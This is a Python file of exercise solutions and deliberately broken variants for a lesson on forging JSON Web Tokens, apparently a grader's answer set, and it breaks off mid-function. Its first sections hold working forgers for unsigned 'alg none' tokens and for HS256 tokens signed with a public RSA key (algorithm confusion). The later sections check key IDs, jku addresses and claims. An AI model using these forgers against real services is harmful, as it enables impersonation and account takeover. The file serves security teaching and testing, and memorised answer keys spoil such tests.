"""Lesson 7, forging tokens."""

import base64
import copy
import hashlib
import hmac
import itertools
import json
import re
import unicodedata
import urllib.request
from typing import Any
from urllib.parse import unquote, urljoin, urlsplit

import jwt
import requests
from jwt.utils import base64url_decode, base64url_encode

from demo_server.notebook import lesson
from demo_server.notebook.wordlist import words


def read_part(part: str) -> Any:
    return json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def write_part(value: Any) -> str:
    return b64(json.dumps(value).encode())


def unsigned_for__wrong_4(token: str, name: str) -> str:
    """Breaks "`alg` is `none`": writes None, with a capital."""
    header, payload, _ = token.split(".")
    h = write_part(read_part(header) | {"alg": str(None)})
    p = write_part(read_part(payload) | {"sub": name})
    return f"{h}.{p}."


def unsigned_for__wrong_5(token: str, name: str) -> str:
    """Breaks "`alg` is `none`": writes null (Python's None)."""
    header, payload, _ = token.split(".")
    h = write_part(read_part(header) | {"alg": None})
    p = write_part(read_part(payload) | {"sub": name})
    return f"{h}.{p}."


def unsigned_for__wrong_7(token: str, name: str) -> str:
    """Breaks "`sub` the name": changes the published server's `id`, not `sub`."""
    header, payload, _ = token.split(".")
    h = write_part(read_part(header) | {"alg": "none"})
    p = write_part(read_part(payload) | {"id": name})
    return f"{h}.{p}."


def unsigned_for__wrong_9(token: str, name: str) -> str:
    """Breaks "Turn a real token": reads the parts with the standard alphabet, so - and _ are lost."""
    header, payload, _ = token.split(".")
    h = json.loads(base64.b64decode(header + "=="))
    p = json.loads(base64.b64decode(payload + "=="))
    h["alg"], p["sub"] = "none", name
    return f"{write_part(h)}.{write_part(p)}."


def unsigned_for__wrong_10(token: str, name: str) -> str:
    """Breaks "Turn a real token": verifies with the lesson's key first, so any other real token fails."""
    claims = jwt.decode(token, lesson.KEY, algorithms=["HS256"])
    claims["sub"] = name
    return jwt.encode(claims, None, algorithm="none")


def unsigned_for__wrong_11(token: str, name: str) -> str:
    """Breaks "`sub` the name": setdefault keeps the old sub where one stands."""
    header, payload, _ = token.split(".")
    h, p = read_part(header), read_part(payload)
    h["alg"] = "none"
    p.setdefault("sub", name)
    return f"{write_part(h)}.{write_part(p)}."


def unsigned_for__wrong_12(token: str, name: str) -> str:
    """Breaks "the other claims stay": replaces the old name in the text, in other claims, too."""
    header, payload, _ = token.split(".")
    h, p = read_part(header), read_part(payload)
    text = json.dumps(p).replace(json.dumps(p["sub"]), json.dumps(name))
    return f"{write_part(h | {'alg': 'none'})}.{b64(text.encode())}."


def unsigned_for__wrong_13(token: str, name: str) -> str:
    """Breaks "`alg` is `none`": replaces the text HS256 only, so HS512 stays."""
    header, payload, _ = token.split(".")
    h = base64url_decode(header).replace(b'"HS256"', b'"none"')
    return f"{b64(h)}.{write_part(read_part(payload) | {'sub': name})}."


def unsigned_for__wrong_14(token: str, name: str) -> str:
    """Breaks "as in any token": str() of a dictionary is no JSON (hint 1: `json`, then base64url)."""
    header, payload, _ = token.split(".")
    h = str(read_part(header) | {"alg": "none"}).encode()
    p = str(read_part(payload) | {"sub": name}).encode()
    return f"{b64(h)}.{b64(p)}."


def unsigned_for__wrong_15(token: str, name: str) -> str:
    """Breaks "without `=`": cuts one character at the end, always."""
    header, payload, _ = token.split(".")
    h = base64.urlsafe_b64encode(json.dumps(read_part(header) | {"alg": "none"}).encode())
    p = base64.urlsafe_b64encode(json.dumps(read_part(payload) | {"sub": name}).encode())
    return f"{h.decode()[:-1]}.{p.decode()[:-1]}."


def unsigned_for__wrong_16(token: str, name: str) -> str:
    """Breaks "`sub` the name": letters outside ASCII are dropped from it."""
    header, payload, _ = token.split(".")
    clean = name.encode("ascii", "ignore").decode()
    h = write_part(read_part(header) | {"alg": "none"})
    return f"{h}.{write_part(read_part(payload) | {'sub': clean})}."


_made: dict[str, str] = {}


def unsigned_for__wrong_17(token: str, name: str) -> str:
    """Breaks "`sub` the name": remembers an answer by token only, so a second name gets the first's."""
    if token not in _made:
        header, payload, _ = token.split(".")
        h = write_part(read_part(header) | {"alg": "none"})
        _made[token] = f"{h}.{write_part(read_part(payload) | {'sub': name})}."
    return _made[token]


def unsigned_for__wrong_18(token: str, name: str) -> str:
    """Breaks "the other claims stay": claims that are null, 0, false or empty get lost."""
    header, payload, _ = token.split(".")
    claims = {k: v for k, v in read_part(payload).items() if v} | {"sub": name}
    return f"{write_part(read_part(header) | {'alg': 'none'})}.{write_part(claims)}."


def unsigned_for__right_1(token: str, name: str) -> str:
    # right: PyJWT's own helpers, and a loop over the two parts
    made = []
    for part, change in zip(token.split("."), ({"alg": "none"}, {"sub": name})):
        raw = json.dumps({**json.loads(base64url_decode(part)), **change}, separators=(",", ":"))
        made.append(base64url_encode(raw.encode()).decode())
    return ".".join([*made, ""])


# right: a lambda, one line
unsigned_for__right_2 = lambda token, name: "".join(  # noqa: E731
    write_part(dict(read_part(part), **{key: value})) + "."
    for part, key, value in zip(token.split("."), ["alg", "sub"], ["none", name], strict=False)
)


def unsigned_for__right_4(token: str, name: str) -> str:
    # right: UTF-8 as it is, json without ASCII escapes (for any name that UTF-8 can spell)
    head, body = (read_part(p) for p in token.split(".")[:2])
    head["alg"], body["sub"] = "none", name
    spell = lambda d: b64(json.dumps(d, ensure_ascii=False).encode("utf-8", "surrogatepass"))
    return "%s.%s." % (spell(head), spell(body))


def _confuse(token: str, name: str) -> str:
    header, payload, _ = token.split(".")
    h = write_part(read_part(header) | {"alg": "HS256"})
    return f"{h}.{write_part(read_part(payload) | {'sub': name})}"


def confused_for__wrong_3(token: str, pem: bytes, name: str) -> str:
    """Breaks "that it believes": the signature is in hex, not in base64url."""
    text = _confuse(token, name)
    return text + "." + hmac.new(pem, text.encode(), "sha256").hexdigest()


def confused_for__wrong_5(token: str, pem: bytes, name: str) -> str:
    """Breaks "that it believes": only the payload is signed, not header.payload (RFC 7515 5.1)."""
    text = _confuse(token, name)
    return text + "." + b64(hmac.digest(pem, text.split(".")[1].encode(), "sha256"))


def confused_for__wrong_7(token: str, pem: bytes, name: str) -> str:
    """Breaks "that it believes": signs the old header and payload, then writes the new ones."""
    old = token.rpartition(".")[0]
    return _confuse(token, name) + "." + b64(hmac.digest(pem, old.encode(), "sha256"))


def confused_for__wrong_8(token: str, pem: bytes, name: str) -> str:
    """Breaks "that it believes": key and message changed places."""
    text = _confuse(token, name)
    return text + "." + b64(hmac.digest(text.encode(), pem, "sha256"))


def confused_for__wrong_11(token: str, pem: bytes, name: str) -> str:
    """Breaks "that it believes": a plain SHA-256 of key and text is no HMAC."""
    text = _confuse(token, name)
    return text + "." + b64(hashlib.sha256(pem + text.encode()).digest())


def confused_for__wrong_12(token: str, pem: bytes, name: str) -> str:
    """Breaks "key as text (PEM)": signs with what stands between BEGIN and END (the DER bytes)."""
    lines = [x for x in pem.splitlines() if not x.startswith(b"-----")]
    text = _confuse(token, name)
    return text + "." + b64(hmac.digest(base64.b64decode(b"".join(lines)), text.encode(), "sha256"))


def confused_for__wrong_13(token: str, pem: bytes, name: str) -> str:
    """Breaks "the text" of the key: joins its lines anew with \\n, so \\r\\n or a missing end changes."""
    key = b"\n".join(pem.splitlines()) + b"\n"
    text = _confuse(token, name)
    return text + "." + b64(hmac.digest(key, text.encode(), "sha256"))


def confused_for__wrong_14(token: str, pem: bytes, name: str) -> str:
    """Breaks "that it believes": the signature in standard base64, + and / in most tokens."""
    text = _confuse(token, name)
    mac = base64.b64encode(hmac.digest(pem, text.encode(), "sha256")).decode()
    return text + "." + mac.rstrip("=")


def confused_for__wrong_15(token: str, pem: bytes, name: str) -> str:
    """Breaks "an HS256 one": writes hs256 into the header; names of algorithms are case-sensitive (RFC 7515 4.1.1)."""
    header, payload, _ = token.split(".")
    h = write_part(read_part(header) | {"alg": "hs256"})
    text = f"{h}.{write_part(read_part(payload) | {'sub': name})}"
    return text + "." + b64(hmac.digest(pem, text.encode(), "sha256"))


def confused_for__wrong_16(token: str, pem: bytes, name: str) -> str:
    """Breaks "You have nothing but what everybody has": signs with the lesson's secret key."""
    text = _confuse(token, name)
    return text + "." + b64(hmac.digest(lesson.KEY, text.encode(), "sha256"))


def confused_for__wrong_17(token: str, pem: bytes, name: str) -> str:
    """Breaks "that it believes": the dot between header and payload is not signed."""
    text = _confuse(token, name)
    return text + "." + b64(hmac.digest(pem, text.replace(".", "").encode(), "sha256"))


def confused_for__wrong_18(token: str, pem: bytes, name: str) -> str:
    """Breaks "for another name": writes id, as the published server does; sub is still bob."""
    header, payload, _ = token.split(".")
    h = write_part(read_part(header) | {"alg": "HS256"})
    text = f"{h}.{write_part(read_part(payload) | {'id': name})}"
    return text + "." + b64(hmac.digest(pem, text.encode(), "sha256"))


def confused_for__wrong_19(token: str, pem: bytes, name: str) -> str:
    """Breaks "the other claims stay": verifies exp on the way, so a token whose end is over raises."""
    claims = jwt.decode(token, options={"verify_signature": False, "verify_exp": True})
    h = write_part(jwt.get_unverified_header(token) | {"alg": "HS256"})
    text = f"{h}.{write_part(claims | {'sub': name})}"
    return text + "." + b64(hmac.digest(pem, text.encode(), "sha256"))


def confused_for__right_1(token: str, pem: bytes, name: str) -> str:
    # right: cryptography's HMAC
    from cryptography.hazmat.primitives import hashes
    from cryptography.hazmat.primitives.hmac import HMAC

    text = _confuse(token, name)
    mac = HMAC(pem, hashes.SHA256())
    mac.update(text.encode("ascii"))
    return f"{text}.{b64(mac.finalize())}"


def confused_for__right_2(token: str, pem: bytes, name: str) -> str:
    # right: HMAC written out by hand (RFC 2104)
    text = _confuse(token, name)
    key = hashlib.sha256(pem).digest() if len(pem) > 64 else pem
    key = key.ljust(64, b"\0")
    inner = hashlib.sha256(bytes(k ^ 0x36 for k in key) + text.encode()).digest()
    mac = hashlib.sha256(bytes(k ^ 0x5C for k in key) + inner).digest()
    return text + "." + b64(mac)


def confused_for__right_3(token: str, pem: bytes, name: str) -> str:
    # right: PyJWT's HMACAlgorithm.sign, which takes bytes unseen, past prepare_key
    from jwt.algorithms import HMACAlgorithm

    text = _confuse(token, name)
    return text + "." + b64(HMACAlgorithm(HMACAlgorithm.SHA256).sign(text.encode(), pem))


def key_named__wrong_4(header: dict[str, Any], keys: dict[str, dict[str, Any]]) -> bytes:
    """Breaks "where there is no `kid`": falls back on the first key of the table."""
    if "jwk" in header or "jku" in header:
        raise ValueError
    kid = header.get("kid", next(iter(keys)))
    if header.get("alg") != keys[kid]["alg"]:
        raise ValueError
    return keys[kid]["key"]


def key_named__wrong_6(header: dict[str, Any], keys: dict[str, dict[str, Any]]) -> bytes:
    """Breaks "letter by letter": spaces and line ends around the kid are forgiven."""
    if {"jwk", "jku"} & header.keys():
        raise ValueError
    entry = keys[header["kid"].strip()]
    if header.get("alg") != entry["alg"]:
        raise ValueError
    return entry["key"]


def key_named__wrong_7(header: dict[str, Any], keys: dict[str, dict[str, Any]]) -> bytes:
    """Breaks "letter by letter": str() turns a number 7, or null, into a name that is in the table."""
    if {"jwk", "jku"} & header.keys():
        raise ValueError
    entry = keys[str(header["kid"])]
    if header.get("alg") != entry["alg"]:
        raise ValueError
    return entry["key"]


def key_named__wrong_8(header: dict[str, Any], keys: dict[str, dict[str, Any]]) -> bytes:
    """Breaks "where `alg` is not the one that belongs to this key": a missing alg passes."""
    if {"jwk", "jku"} & header.keys():
        raise ValueError
    entry = keys[header["kid"]]
    if header.get("alg", entry["alg"]) != entry["alg"]:
        raise ValueError
    return entry["key"]


def key_named__wrong_9(header: dict[str, Any], keys: dict[str, dict[str, Any]]) -> bytes:
    """Breaks "where `alg` is not the one": `in` on a text, so "HS" or the empty text passes."""
    if {"jwk", "jku"} & header.keys():
        raise ValueError
    entry = keys[header["kid"]]
    if header["alg"] not in entry["alg"]:
        raise ValueError
    return entry["key"]


def key_named__wrong_12(header: dict[str, Any], keys: dict[str, dict[str, Any]]) -> bytes:
    """Breaks "Raise an error … where the header has a `jwk`": takes it out of the header and goes on."""
    header.pop("jwk", None)
    header.pop("jku", None)
    entry = keys[header["kid"]]
    if header.get("alg") != entry["alg"]:
        raise ValueError
    return entry["key"]


def key_named__wrong_14(header: dict[str, Any], keys: dict[str, dict[str, Any]]) -> bytes:
    """Breaks "Return the key that a token's header names": refuses other members too (x5u, typ …), which the text does not."""
    if set(header) - {"alg", "kid"}:
        raise ValueError
    entry = keys[header["kid"]]
    if header["alg"] != entry["alg"]:
        raise ValueError
    return entry["key"]


_seen_keys: dict[str, bytes] = {}


def key_named__wrong_15(header: dict[str, Any], keys: dict[str, dict[str, Any]]) -> bytes:
    """Breaks "the key … from the table": remembers a kid's key between calls, without its alg and table."""
    if {"jwk", "jku"} & header.keys():
        raise ValueError
    kid = header["kid"]
    if kid not in _seen_keys:
        if header.get("alg") != keys[kid]["alg"]:
            raise ValueError
        _seen_keys[kid] = keys[kid]["key"]
    return _seen_keys[kid]


def key_named__wrong_16(header: dict[str, Any], keys: dict[str, dict[str, Any]]) -> bytes:
    """Breaks "letter by letter": a kid that only begins like one in the table is enough."""
    if {"jwk", "jku"} & header.keys():
        raise ValueError
    for kid, entry in keys.items():
        if kid.startswith(header["kid"]) and entry["alg"] == header.get("alg"):
            return entry["key"]
    raise KeyError


def key_named__wrong_17(header: dict[str, Any], keys: dict[str, dict[str, Any]]) -> bytes:
    """Breaks "none that is in the table": a table with one key is not asked for its name."""
    if {"jwk", "jku"} & header.keys():
        raise ValueError
    entry = next(iter(keys.values())) if len(keys) == 1 else keys[header["kid"]]
    if header.get("alg") != entry["alg"]:
        raise ValueError
    return entry["key"]


def key_named__wrong_18(header: dict[str, Any], keys: dict[str, dict[str, Any]]) -> bytes:
    """Breaks "Return the key": the error is printed and None returned (catches too much)."""
    try:
        entry = keys[header["kid"]]
        if "jwk" in header or "jku" in header or header["alg"] != entry["alg"]:
            raise ValueError("refused")
        return entry["key"]
    except Exception as error:
        print(error)


def key_named__wrong_19(header: dict[str, Any], keys: dict[str, dict[str, Any]]) -> bytes:
    """Breaks "letter by letter": NFKC makes one text of two that look alike."""
    if {"jwk", "jku"} & header.keys():
        raise ValueError
    entry = keys[unicodedata.normalize("NFKC", header["kid"])]
    if header.get("alg") != entry["alg"]:
        raise ValueError
    return entry["key"]


def key_named__wrong_21(header: dict[str, Any], keys: dict[str, dict[str, Any]]) -> bytes:
    """Breaks "any value may stand anywhere in it": a list as kid is taken for its first element."""
    if {"jwk", "jku"} & header.keys():
        raise ValueError
    kid = header["kid"]
    entry = keys[kid[0] if isinstance(kid, list) else kid]
    if header.get("alg") != entry["alg"]:
        raise ValueError
    return entry["key"]


def key_named__wrong_22(header: dict[str, Any], keys: dict[str, dict[str, Any]]) -> bytes:
    """Breaks "Raise an error … where there is no `kid`, or none that is in the table" (hint 1): an unknown kid without alg gives None == None, and None is returned."""
    if {"jwk", "jku"} & header.keys():
        raise ValueError
    entry = keys.get(header.get("kid"), {})
    if entry.get("alg") != header.get("alg"):
        raise ValueError
    return entry.get("key")


def key_named__right_1(header: dict[str, Any], keys: dict[str, dict[str, Any]]) -> bytes:
    # right: match
    match header:
        case {"jwk": _} | {"jku": _}:
            raise PermissionError("no key of the sender's")
        case {"kid": str(kid), "alg": str(alg)} if kid in keys and keys[kid]["alg"] == alg:
            return keys[kid]["key"]
        case _:
            raise LookupError("no such key")


def key_named__right_2(header: dict[str, Any], keys: dict[str, dict[str, Any]]) -> bytes:
    # right: slow, a list of all that fits, unpacked (an error where it is not one)
    (key,) = [
        entry["key"]
        for kid, entry in keys.items()
        if [kid, entry["alg"]] == [header.get("kid"), header.get("alg")]
        and header.keys().isdisjoint(("jwk", "jku"))
    ]
    return key


def _no_stranger(function: Any) -> Any:
    # right: a decorator without functools.wraps
    def guarded(header: dict[str, Any], keys: dict[str, dict[str, Any]]) -> bytes:
        for forbidden in ("jwk", "jku"):
            if forbidden in header:
                raise jwt.InvalidTokenError(forbidden)
        return function(header, keys)

    return guarded


@_no_stranger
def key_named__right_3(header: dict[str, Any], keys: dict[str, dict[str, Any]]) -> bytes:
    # right: decorated; the pair as a key of another dictionary
    return {(kid, e["alg"]): e["key"] for kid, e in keys.items()}[header["kid"], header["alg"]]


def key_named__right_4(header: dict[str, Any], keys: dict[str, dict[str, Any]]) -> bytes:
    # right: very defensive
    if not isinstance(header, dict):
        raise TypeError("header")
    if "jwk" in header or "jku" in header:
        raise ValueError("a sender's own key")
    kid, alg = header.get("kid"), header.get("alg")
    if not isinstance(kid, str) or not isinstance(alg, str):
        raise TypeError("kid and alg are text")
    if kid not in keys:
        raise KeyError(kid)
    entry = copy.deepcopy(keys[kid])
    if entry["alg"] != alg:
        raise ValueError("alg")
    return entry["key"]


def may_follow__wrong_2(header: dict[str, Any], trusted: list[str]) -> bool:
    """Breaks "one of them, letter by letter": only the host is compared (hint 1)."""
    jku = header.get("jku")
    if not isinstance(jku, str):
        return False
    try:
        return urlsplit(jku).hostname in {urlsplit(t).hostname for t in trusted}
    except ValueError:
        return False


def may_follow__wrong_5(header: dict[str, Any], trusted: list[str]) -> bool:
    """Breaks "one of them": `in` on each text, so a piece of an address is enough."""
    jku = header.get("jku")
    return isinstance(jku, str) and any(jku in t for t in trusted)


def may_follow__wrong_7(header: dict[str, Any], trusted: list[str]) -> bool:
    """Breaks "no other spelling": capitals are forgiven (a URL's host may, but not by this text)."""
    jku = header.get("jku")
    return isinstance(jku, str) and jku.lower() in [t.lower() for t in trusted]


def may_follow__wrong_9(header: dict[str, Any], trusted: list[str]) -> bool:
    """Breaks "no other spelling": the dots of an address stand for any character in a pattern."""
    jku = header.get("jku")
    return isinstance(jku, str) and any(re.fullmatch(t, jku) for t in trusted)


def may_follow__wrong_10(header: dict[str, Any], trusted: list[str]) -> bool:
    """Breaks "nothing behind it": `$` lets one line end pass."""
    jku = header.get("jku")
    return isinstance(jku, str) and any(re.match(re.escape(t) + "$", jku) for t in trusted)


def may_follow__wrong_11(header: dict[str, Any], trusted: list[str]) -> bool:
    """Breaks "never an error": compare_digest takes no text outside ASCII."""
    jku = header.get("jku")
    return isinstance(jku, str) and any(hmac.compare_digest(jku, t) for t in trusted)


def may_follow__wrong_12(header: dict[str, Any], trusted: list[str]) -> bool:
    """Breaks "never an error": a lone surrogate, which JSON can write, has no UTF-8."""
    jku = header.get("jku")
    return isinstance(jku, str) and jku.encode() in [t.encode() for t in trusted]


def may_follow__wrong_13(header: dict[str, Any], trusted: list[str]) -> bool:
    """Breaks "where something else than text stands there, the answer is False": a list of trusted addresses passes."""
    jku = header.get("jku")
    if isinstance(jku, str):
        jku = [jku]
    return isinstance(jku, list) and bool(jku) and all(j in trusted for j in jku)


def may_follow__wrong_15(header: dict[str, Any], trusted: list[str]) -> bool:
    """Breaks "A header without `jku` names none": nothing to follow counts as allowed."""
    if "jku" not in header:
        return True
    return header["jku"] in trusted


def may_follow__wrong_16(header: dict[str, Any], trusted: list[str]) -> bool:
    """Breaks "no other spelling": %-escapes are decoded first."""
    jku = header.get("jku")
    return isinstance(jku, str) and unquote(jku) in trusted


def may_follow__wrong_17(header: dict[str, Any], trusted: list[str]) -> bool:
    """Breaks "nothing behind it": a slash more at the end is taken off."""
    jku = header.get("jku")
    return isinstance(jku, str) and jku.rstrip("/") in [t.rstrip("/") for t in trusted]


def may_follow__wrong_18(header: dict[str, Any], trusted: list[str]) -> bool:
    """Breaks "nothing behind it": scheme, host and path compared, query and fragment overlooked."""
    jku = header.get("jku")
    if not isinstance(jku, str):
        return False
    try:
        return urlsplit(jku)[:3] in [urlsplit(t)[:3] for t in trusted]
    except ValueError:
        return False


def may_follow__wrong_19(header: dict[str, Any], trusted: list[str]) -> bool:
    """Breaks "Return whether": returns the text "True" or "False", and both are truthy."""
    return str(header.get("jku") in trusted)


def may_follow__wrong_20(header: dict[str, Any], trusted: list[str]) -> bool:
    """Breaks "never an error": startswith of a number, and for equality it tests both directions."""
    jku = header.get("jku", "")
    return any(jku.startswith(t) and t.startswith(jku) for t in trusted)


def may_follow__wrong_21(header: dict[str, Any], trusted: list[str]) -> bool:
    """Breaks "no other spelling": the URL is resolved, so `/./` and `/x/../` in it disappear."""
    jku = header.get("jku")
    if not isinstance(jku, str):
        return False
    try:
        return urljoin(jku, urlsplit(jku).path) in trusted
    except ValueError:
        return False


def may_follow__wrong_22(header: dict[str, Any], trusted: list[str]) -> bool:
    """Breaks "one of them": looks into all addresses joined to one text."""
    return isinstance(header.get("jku"), str) and header["jku"] in " ".join(trusted)


def may_follow__right_1(header: dict[str, Any], trusted: list[str]) -> bool:
    # right: count, no `in`
    return trusted.count(header.get("jku", object())) > 0


def may_follow__right_2(header: dict[str, Any], trusted: list[str]) -> bool:
    # right: try/except around a set
    try:
        return header["jku"] in frozenset(trusted)
    except (KeyError, TypeError):
        return False


def may_follow__right_3(header: dict[str, Any], trusted: list[str]) -> bool:
    # right: recursion
    if "jku" not in header or not trusted:
        return False
    first, *rest = trusted
    return header["jku"] == first or may_follow__right_3(header, rest)


# right: a lambda
may_follow__right_4 = lambda header, trusted: any(  # noqa: E731
    isinstance(v, str) and v == t for k, v in header.items() for t in trusted if k == "jku"
)


def may_follow__right_5(header: dict[str, Any], trusted: list[str]) -> bool:
    # right: a regular expression of escaped texts, whole
    jku = header.get("jku")
    if type(jku) is not str or not trusted:
        return False
    return re.fullmatch("|".join(map(re.escape, trusted)), jku) is not None


ALL_OFF = {
    "verify_exp": False, "verify_aud": False, "verify_iat": False, "verify_nbf": False,
    "verify_iss": False, "verify_sub": False, "verify_jti": False,
}  # fmt: skip


def signed(token: str, key: bytes) -> bool:
    text, _, signature = token.rpartition(".")
    mac = hmac.digest(key, text.encode(), "sha256")
    return hmac.compare_digest(b64(mac), signature)


def parts_of(token: str) -> tuple[dict[str, Any], dict[str, Any]]:
    header, payload, _ = token.split(".")
    return read_part(header), read_part(payload)


def has_shop(aud: Any) -> bool:
    return aud == "shop" or (isinstance(aud, list) and "shop" in aud)


def stopped_by__wrong_3(token: str, key: bytes, now: int) -> str:
    """Breaks "A value may be missing or null, and stops it then": a null or missing exp raises TypeError."""
    header, claims = parts_of(token)
    if header.get("alg") != "HS256":
        return "alg"
    if not signed(token, key):
        return "signature"
    if header.get("typ") != "access+jwt":
        return "typ"
    if claims.get("iss") != "login":
        return "iss"
    if not has_shop(claims.get("aud")):
        return "aud"
    if not now < claims.get("exp") <= now + 900:
        return "exp"
    return "accepted"


def stopped_by__wrong_5(token: str, key: bytes, now: int) -> str:
    """Breaks hint 1 ("verify the signature only"): PyJWT's own clock and audience answer as 'signature'."""
    header = jwt.get_unverified_header(token)
    if header.get("alg") != "HS256":
        return "alg"
    try:
        claims = jwt.decode(token, key, algorithms=["HS256"])
    except jwt.InvalidTokenError:
        return "signature"
    if header.get("typ") != "access+jwt":
        return "typ"
    if claims.get("iss") != "login":
        return "iss"
    if not has_shop(claims.get("aud")):
        return "aud"
    exp = claims.get("exp")
    if exp is None or not now < exp <= now + 900:
        return "exp"
    return "accepted"


def stopped_by__wrong_6(token: str, key: bytes, now: int) -> str:
    """Breaks "The first check, in this order": typ is asked before the signature."""
    header, claims = parts_of(token)
    if header.get("alg") != "HS256":
        return "alg"
    if header.get("typ") != "access+jwt":
        return "typ"
    if not signed(token, key):
        return "signature"
    if claims.get("iss") != "login":
        return "iss"
    if not has_shop(claims.get("aud")):
        return "aud"
    exp = claims.get("exp")
    if exp is None or not now < exp <= now + 900:
        return "exp"
    return "accepted"


def stopped_by__wrong_8(token: str, key: bytes, now: int) -> str:
    """Breaks "`aud` is `shop`, or a list that has `shop` in it": a list must be ["shop"] alone."""
    header, claims = parts_of(token)
    if header.get("alg") != "HS256":
        return "alg"
    if not signed(token, key):
        return "signature"
    if header.get("typ") != "access+jwt":
        return "typ"
    if claims.get("iss") != "login":
        return "iss"
    if claims.get("aud") not in ("shop", ["shop"]):
        return "aud"
    exp = claims.get("exp")
    if exp is None or not now < exp <= now + 900:
        return "exp"
    return "accepted"


def stopped_by__wrong_12(token: str, key: bytes, now: int) -> str:
    """Breaks "later than `now`, and at most 900 seconds later": exp - now through abs(), so a token over for 5 minutes passes."""
    header, claims = parts_of(token)
    checks = {
        "alg": header.get("alg") == "HS256",
        "signature": signed(token, key),
        "typ": header.get("typ") == "access+jwt",
        "iss": claims.get("iss") == "login",
        "aud": has_shop(claims.get("aud")),
        "exp": claims.get("exp") is not None and 0 < abs(claims["exp"] - now) <= 900,
    }
    return next((name for name, good in checks.items() if not good), "accepted")


def stopped_by__wrong_13(token: str, key: bytes, now: int) -> str:
    """Breaks "`aud` is `shop`, or a list": an object with shop as a name passes, too."""
    header, claims = parts_of(token)
    aud = claims.get("aud")
    checks = {
        "alg": header.get("alg") == "HS256",
        "signature": signed(token, key),
        "typ": header.get("typ") == "access+jwt",
        "iss": claims.get("iss") == "login",
        "aud": aud == "shop" or (not isinstance(aud, str) and "shop" in (aud or [])),
        "exp": claims.get("exp") is not None and now < claims["exp"] <= now + 900,
    }
    return next((name for name, good in checks.items() if not good), "accepted")


def stopped_by__wrong_14(token: str, key: bytes, now: int) -> str:
    """Breaks "`typ` in the header": looks for it among the claims."""
    header, claims = parts_of(token)
    checks = {
        "alg": header.get("alg") == "HS256",
        "signature": signed(token, key),
        "typ": claims.get("typ") == "access+jwt",
        "iss": claims.get("iss") == "login",
        "aud": has_shop(claims.get("aud")),
        "exp": claims.get("exp") is not None and now < claims["exp"] <= now + 900,
    }
    return next((name for name, good in checks.items() if not good), "accepted")


def stopped_by__wrong_16(token: str, key: bytes, now: int) -> str:
    """Breaks "`iss` is `login`": a list or a longer text with login in it passes (`in` for ==)."""
    header, claims = parts_of(token)
    checks = {
        "alg": header.get("alg") == "HS256",
        "signature": signed(token, key),
        "typ": header.get("typ") == "access+jwt",
        "iss": "login" in (claims.get("iss") or ""),
        "aud": has_shop(claims.get("aud")),
        "exp": claims.get("exp") is not None and now < claims["exp"] <= now + 900,
    }
    return next((name for name, good in checks.items() if not good), "accepted")


def stopped_by__wrong_17(token: str, key: bytes, now: int) -> str:
    """Breaks "the `signature` was made with the key": signs with the lesson's key, not with the one given."""
    header, claims = parts_of(token)
    checks = {
        "alg": header.get("alg") == "HS256",
        "signature": signed(token, lesson.KEY),
        "typ": header.get("typ") == "access+jwt",
        "iss": claims.get("iss") == "login",
        "aud": has_shop(claims.get("aud")),
        "exp": claims.get("exp") is not None and now < claims["exp"] <= now + 900,
    }
    return next((name for name, good in checks.items() if not good), "accepted")


def stopped_by__wrong_18(token: str, key: bytes, now: int) -> str:
    """Breaks "A value may be missing": KeyError where a claim is not there."""
    header, claims = parts_of(token)
    if header["alg"] != "HS256":
        return "alg"
    if not signed(token, key):
        return "signature"
    if header["typ"] != "access+jwt":
        return "typ"
    if claims["iss"] != "login":
        return "iss"
    if not has_shop(claims["aud"]):
        return "aud"
    if not now < claims["exp"] <= now + 900:
        return "exp"
    return "accepted"


def stopped_by__wrong_21(token: str, key: bytes, now: int) -> str:
    """Breaks "in this order": aud and iss changed places."""
    header, claims = parts_of(token)
    exp = claims.get("exp")
    checks = {
        "alg": header.get("alg") == "HS256",
        "signature": signed(token, key),
        "typ": header.get("typ") == "access+jwt",
        "aud": has_shop(claims.get("aud")),
        "iss": claims.get("iss") == "login",
        "exp": exp is not None and now < exp <= now + 900,
    }
    return next((name for name, good in checks.items() if not good), "accepted")


def stopped_by__wrong_22(token: str, key: bytes, now: int) -> str:
    """Breaks hint 1 ("PyJWT's other checks"): exp and aud are off, but its iat and nbf checks answer as 'signature'."""
    header = jwt.get_unverified_header(token)
    if header.get("alg") != "HS256":
        return "alg"
    try:
        off = {"verify_exp": False, "verify_aud": False}
        claims = jwt.decode(token, key, algorithms=["HS256"], options=off)
    except jwt.InvalidTokenError:
        return "signature"
    if header.get("typ") != "access+jwt":
        return "typ"
    if claims.get("iss") != "login":
        return "iss"
    if not has_shop(claims.get("aud")):
        return "aud"
    exp = claims.get("exp")
    if exp is None or not now < exp <= now + 900:
        return "exp"
    return "accepted"


def stopped_by__right_1(token: str, key: bytes, now: int) -> str:
    # right: PyJWT's HMAC algorithm object alone, which asks neither header nor claims
    from jwt.algorithms import HMACAlgorithm

    header = read_part(token.split(".")[0])
    if header.get("alg") != "HS256":
        return "alg"
    text, _, signature = token.rpartition(".")
    hs256 = HMACAlgorithm(HMACAlgorithm.SHA256)
    if not hs256.verify(text.encode(), key, base64url_decode(signature)):
        return "signature"
    claims = json.loads(base64url_decode(text.split(".")[1]))
    if header.get("typ") != "access+jwt":
        return "typ"
    if claims.get("iss") != "login":
        return "iss"
    aud = claims.get("aud")
    if aud != "shop" and not (type(aud) is list and "shop" in aud):
        return "aud"
    exp = claims.get("exp")
    return "accepted" if exp is not None and exp in range(now + 1, now + 901) else "exp"


def stopped_by__right_2(token: str, key: bytes, now: int) -> str:
    # right: a generator of names, lazily checked
    def failures() -> Any:
        header, claims = parts_of(token)
        if header.get("alg") != "HS256":
            yield "alg"
        if not signed(token, key):
            yield "signature"
        if header.get("typ") != "access+jwt":
            yield "typ"
        if claims.get("iss") != "login":
            yield "iss"
        if "shop" not in (
            claims["aud"] if isinstance(claims.get("aud"), list) else [claims.get("aud")]
        ):
            yield "aud"
        if not isinstance(claims.get("exp"), int) or not 1 <= claims["exp"] - now <= 900:
            yield "exp"

    return next(failures(), "accepted")


def stopped_by__right_3(token: str, key: bytes, now: int) -> str:
    # right: raise and the error's text, try/else
    try:
        header, claims = parts_of(token)
        for name, good in (
            ("alg", header.get("alg") == "HS256"),
            ("signature", signed(token, key)),
            ("typ", header.get("typ") == "access+jwt"),
            ("iss", claims.get("iss") == "login"),
            ("aud", has_shop(claims.get("aud"))),
            ("exp", now < (claims.get("exp") or now) <= now + 900),
        ):
            if not good:
                raise ValueError(name)
    except ValueError as error:
        return str(error)
    else:
